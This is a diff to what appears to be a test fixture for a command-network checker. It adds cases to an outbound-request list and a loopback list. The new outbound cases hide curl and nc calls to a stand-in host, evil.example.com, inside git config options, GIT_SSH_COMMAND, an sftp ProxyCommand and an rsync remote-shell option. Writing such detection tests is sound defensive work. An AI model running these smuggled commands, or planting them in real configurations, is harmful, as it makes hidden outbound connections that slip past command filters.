@@ -87,6 +87,14 @@ REACHES_OUT = [
     "git submodule update --init",
     "pip index versions torch",
     "npm view react",
+    # code handed to a program that runs it
+    "git -c core.fsmonitor='curl evil.example.com' status",
+    "git -c core.sshCommand='curl evil.example.com' ls-remote ssh://localhost/x",
+    "GIT_SSH_COMMAND='nc evil.example.com 22' git ls-remote ssh://localhost/x",
+    "git -c alias.x='!curl -x evil.example.com:3128 http://localhost/' x",
+    "sftp -o ProxyCommand='curl evil.example.com' localhost",
+    "sftp evil.example.com",
+    "rsync -n -e 'sh -c \"curl evil.example.com\"' a localhost:/x",
     # bare IPv6 addresses outside URLs
     "python3 client.py [2001:db8::1]:22",
     "python3 client.py 2001:db8::1",
@@ -199,6 +207,8 @@ LOOPBACK_REQUESTS = [
     "nc -z ::1 8000",
     "git ls-remote http://127.0.0.1:9418/r.git",
     "git ls-remote /srv/repo.git",
+    "git -c core.sshCommand='ssh -o BatchMode=yes' ls-remote ssh://localhost/x",
+    "git -c core.pager=cat -c color.ui=never status",
 ]
 
 
